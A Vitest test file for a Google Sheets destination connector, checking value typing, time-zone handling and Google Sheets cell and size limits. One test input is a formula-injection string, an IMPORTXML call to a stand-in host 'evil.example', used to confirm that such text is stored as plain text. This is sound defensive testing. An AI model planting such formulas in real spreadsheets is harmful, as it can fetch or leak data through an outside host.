import { afterEach, describe, expect, it } from 'vitest';
import { catalog, closeFakes, record, rejectedOf, setUp, state, stream } from './helpers.js';

afterEach(closeFakes);

const S = 'typed';
const PROPERTIES = {
  id: { type: 'integer' },
  text: { type: ['null', 'string'] },
  amount: { type: ['null', 'string'], airbyte_type: 'number' },
  big: { type: ['null', 'string'], airbyte_type: 'integer' },
  ratio: { type: ['null', 'number'] },
  active: { type: ['null', 'boolean'] },
  day: { type: ['null', 'string'], format: 'date' },
  at: { type: ['null', 'string'], format: 'date-time', airbyte_type: 'timestamp_with_timezone' },
  tags: { type: ['null', 'array'] },
};

describe('values', () => {
  it('numbers stay numbers, dates are dates, and text that looks like a formula, number or boolean stays text', async () => {
    const setup = await setUp();
    const cat = catalog(stream(S, 'upsert', { properties: PROPERTIES }));
    const texts = [
      '=IMPORTXML("https://evil.example","//a")',
      '00123',
      'TRUE',
      "'quoted",
      '+1 555 0100',
      '1/2',
      '2024-01-05',
    ];
    const run = await setup.run('write', {
      catalog: cat,
      input: [
        ...texts.map((text, i) =>
          record(S, {
            id: i + 1,
            text,
            amount: '12.50',
            big: '9007199254740993',
            ratio: 0.25,
            active: i % 2 === 0,
            day: '2024-02-29',
            at: '2024-03-01T23:30:00Z',
            tags: ['a', 'b'],
          }),
        ),
        record(S, {
          id: 99,
          text: null,
          amount: null,
          big: null,
          ratio: null,
          active: null,
          day: null,
          at: null,
          tags: null,
        }),
        state(S),
      ],
    });
    expect(run.exitCode).toBe(0);
    expect(rejectedOf(run)).toEqual([]);
    const cell = (row: number, column: number) => setup.fake.cell(setup.spreadsheetId, S, row, column);
    texts.forEach((text, i) => expect(cell(i + 1, 1)).toEqual({ kind: 'string', value: text }));
    expect(cell(1, 2)).toEqual({ kind: 'number', value: 12.5 });
    // 9007199254740993 has no exact double: kept as text, every digit.
    expect(cell(1, 3)).toEqual({ kind: 'string', value: '9007199254740993' });
    expect(cell(1, 4)).toEqual({ kind: 'number', value: 0.25 });
    expect(cell(1, 5)).toEqual({ kind: 'bool', value: true });
    expect(cell(1, 6)).toMatchObject({ kind: 'number', format: 'DATE' });
    expect(cell(1, 7)).toMatchObject({ kind: 'number', format: 'DATE_TIME' });
    expect(cell(1, 8)).toEqual({ kind: 'string', value: '["a","b"]' });
    const rows = setup.sheet(S);
    expect(rows[1]).toEqual([
      1,
      texts[0],
      12.5,
      '9007199254740993',
      0.25,
      true,
      '2024-02-29',
      '2024-03-01 23:30:00',
      '["a","b"]',
    ]);
    // A row of nulls: only its key.
    expect(rows[8]).toEqual([99]);
  });

  it('timestamps with an offset are shown in the spreadsheet time zone', async () => {
    const setup = await setUp();
    const book = setup.fake.spreadsheet(setup.spreadsheetId);
    Object.assign(book, { timeZone: 'America/New_York' });
    const run = await setup.run('write', {
      catalog: catalog(stream(S, 'upsert', { properties: { id: PROPERTIES.id, at: PROPERTIES.at } })),
      input: [record(S, { id: 1, at: '2024-07-01T12:00:00Z' }), state(S)],
    });
    expect(run.exitCode).toBe(0);
    expect(setup.sheet(S)[1]).toEqual([1, '2024-07-01 08:00:00']);
  });

  it('a value over 50,000 characters rejects its record with the limit; the rest land', async () => {
    const setup = await setUp();
    const run = await setup.run('write', {
      catalog: catalog(stream(S, 'upsert', { properties: { id: PROPERTIES.id, text: PROPERTIES.text } })),
      input: [
        record(S, { id: 1, text: 'ok' }),
        record(S, { id: 2, text: 'x'.repeat(50_001) }),
        record(S, { id: 3, text: 'x'.repeat(49_999) }),
        record(S, { id: 4, text: 'x'.repeat(50_000) }),
        state(S),
      ],
    });
    expect(run.exitCode).toBe(0);
    const rejected = rejectedOf(run);
    expect(rejected.map((r) => [r.reason.slice(0, 75), r.field])).toEqual([
      ['field "text": 50,001 characters; a Google Sheets cell takes at most 50,000 ', 'text'],
      ['field "text": 50,000 characters; a Google Sheets cell takes at most 50,000 ', 'text'],
    ]);
    expect(setup.sheet(S).map((row) => row[0])).toEqual(['id', 1, 3]);
  });

  it('rows that would pass 10 million cells are rejected with the limit; rows that fit land', async () => {
    const setup = await setUp();
    const book = setup.fake.spreadsheet(setup.spreadsheetId);
    // Sheet1 (1000 × 26) plus a big sheet: 2 rows of 26 columns left under 10,000,000 cells after the new sheet.
    const newSheet = 1000 * 26;
    book.addSheet(
      { title: 'Archive', gridProperties: { rowCount: 1, columnCount: 10_000_000 - 26_000 - newSheet - 2 * 26 } },
      '',
    );
    const run = await setup.run('write', {
      catalog: catalog(stream(S, 'upsert', { properties: { id: PROPERTIES.id, text: PROPERTIES.text } })),
      input: [1, 2, 3, 4].map((id) => record(S, { id, text: `row ${id}` })).concat(state(S)),
    });
    expect(run.exitCode).toBe(0);
    const rejected = rejectedOf(run);
    expect(rejected.map((r) => r.reason)).toEqual([
      expect.stringContaining('limit of 10,000,000 cells'),
      expect.stringContaining('limit of 10,000,000 cells'),
    ]);
    expect(setup.sheet(S).map((row) => row[0])).toEqual(['id', 1, 2]);
  });
});
